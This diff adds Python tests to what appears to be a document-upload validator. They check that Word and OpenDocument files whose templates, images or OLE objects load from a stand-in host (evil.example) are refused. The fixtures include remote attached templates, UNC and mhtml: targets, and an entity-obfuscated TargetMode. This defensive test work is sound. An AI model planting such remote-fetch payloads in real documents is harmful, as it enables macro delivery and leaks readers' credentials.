@@ -225,3 +225,88 @@ def test_any_place_is_read_or_left(written: dict[int, object]) -> None:
     exif = Image.Exif()
     exif.get_ifd(0x8825).update(written)
     assert re.fullmatch(r"(?:-?\d{1,2}\.\d{3}, -?\d{1,3}\.\d{3})?", reencode._place(exif))
+
+
+RELATION = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{0}" Target="{1}" {2}/></Relationships>'
+)
+LINKING = (
+    '<d:document xmlns:d="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:x="http://www.w3.org/1999/xlink" '
+    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><{0} x:href="{1}"/></d:document>'
+)
+OUTSIDE = 'TargetMode="External"'
+
+
+def word(relation: str) -> bytes:
+    return samples.office(**{"word/_rels/settings.xml.rels": relation.encode()})
+
+
+def opened(content: str) -> bytes:
+    media_type = b"application/vnd.oasis.opendocument.text"
+    return samples.archive({"mimetype": media_type, "content.xml": content.encode()})
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        word(RELATION.format("attachedTemplate", "https://evil.example/a.dotm", OUTSIDE)),
+        word(RELATION.format("attachedTemplate", "https://evil.example/a.dotm", 'TargetMode="Ext&#101;rnal"')),
+        word(RELATION.format("attachedTemplate", "file:///C:/Vorlage.dotm", OUTSIDE).replace("C:/", "\\\\evil\\")),
+        word(RELATION.format("image", "\\\\evil.example\\a.png", OUTSIDE)),
+        word(RELATION.format("oleObject", "file://evil.example/a.xls", OUTSIDE)),
+        word(RELATION.format("oleObject", "file:////evil.example/a.xls", OUTSIDE)),
+        word(RELATION.format("oleObject", "mhtml:https://evil.example/a!x", OUTSIDE)),
+        samples.office(
+            **{
+                "word/_rels/a.XML.RELS": RELATION.format("image", "http://evil.example/a", OUTSIDE).encode(),
+                "mimetype": b"neither",
+            }
+        ),
+        opened(LINKING.format("d:image", "https://evil.example/a.png")),
+        opened(LINKING.format("d:object", "//evil.example/a")),
+    ],
+    ids=[
+        "template",
+        "entity",
+        "unc in file",
+        "unc",
+        "file",
+        "four slashes",
+        "mhtml",
+        "both families",
+        "odt picture",
+        "odt object",
+    ],
+)
+def test_documents_that_fetch_something_when_they_are_opened_are_refused(data: bytes) -> None:
+    """X-20: no reader is told to a stranger, and no macro comes by a template from elsewhere."""
+    with pytest.raises(Invalid, match="aus dem Netz"):
+        take(data)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        word(RELATION.format("hyperlink", "https://www.braunschweig.de/", OUTSIDE)),
+        word(RELATION.format("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm", OUTSIDE)),
+        word(RELATION.format("image", "media/image1.png", "")),
+        opened(LINKING.format("text:a", "https://www.braunschweig.de/")),
+        opened(LINKING.format("d:image", "Pictures/1.png")),
+    ],
+    ids=["link", "own template", "own picture", "odt link", "odt picture"],
+)
+def test_links_that_a_reader_may_follow_do_no_harm(data: bytes) -> None:
+    """X-18: what Word and LibreOffice write by themselves is taken."""
+    storage.remove(take(data).key)
+
+
+@pytest.mark.parametrize(
+    "part",
+    [b"<Relationships", b'<!DOCTYPE a [<!ENTITY b "c">]><Relationships>&b;</Relationships>', b"\xff\xfe\x00"],
+    ids=["half", "entities", "no text"],
+)
+def test_what_is_fetched_must_be_readable(part: bytes) -> None:
+    """X-20: a document whose links nobody can read is damaged."""
+    with pytest.raises(Invalid, match="beschädigt"):
+        take(samples.office(**{"word/_rels/document.xml.rels": part}))
